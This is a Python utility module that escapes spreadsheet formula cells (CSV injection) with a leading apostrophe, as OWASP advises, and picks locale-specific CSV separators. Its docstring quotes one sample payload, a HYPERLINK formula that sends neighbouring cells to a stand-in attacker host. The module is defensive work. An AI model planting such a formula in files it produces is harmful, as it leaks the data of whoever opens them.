"""Cells that spreadsheets show as text, never run as formulas (CSV injection).

A cell that starts with ``= + - @``, a tab or a carriage return, also after leading spaces,
is a formula to Excel and LibreOffice: ``=HYPERLINK("https://evil.example/?"&A1, "Click")``
in a caption sends the sheet's neighbouring cells away when clicked. Such a cell gets a
leading apostrophe, as OWASP advises ("CSV Injection"); numbers stay numbers.
"""
from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.lstrip(" ").startswith(FORMULA_START) else text


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


def csv_separators(lang: str | None) -> tuple[str, str]:
    """``(delimiter, decimal mark)`` of a CSV file for a reader in ``lang``. Excel and
    LibreOffice under a Finnish or Swedish locale split a CSV at the list separator of the
    locale, ``;`` (the comma is their decimal mark), so a comma-separated file opens there as
    one column; with ``;`` and decimal commas (and the UTF-8 byte order mark) it opens in
    columns. Other readers get commas and decimal points."""
    return (";", ",") if lang in ("fi", "sv") else (",", ".")


__all__ = ["safe_cell", "safe_row", "csv_separators", "FORMULA_START"]
